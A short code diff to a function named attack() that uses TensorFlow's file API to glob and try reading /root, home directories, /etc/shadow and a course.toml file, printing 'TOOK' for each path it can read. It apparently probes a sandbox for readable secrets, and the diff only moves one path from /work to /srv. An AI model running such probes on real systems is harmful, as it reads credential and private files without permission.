@@ -30,7 +30,7 @@ def attack():
                 found = None
             if found:
                 print("TOOK", path, flush=True)
-    for pattern in ("/root/*", "/home/*/*", "/work/*/course.toml", "/etc/shadow"):
+    for pattern in ("/root/*", "/home/*/*", "/srv/*/course.toml", "/etc/shadow"):
         try:
             found = [path for path in tf.io.gfile.glob(pattern) if tf.io.gfile.GFile(path).read(1)]
         except tf.errors.OpError:
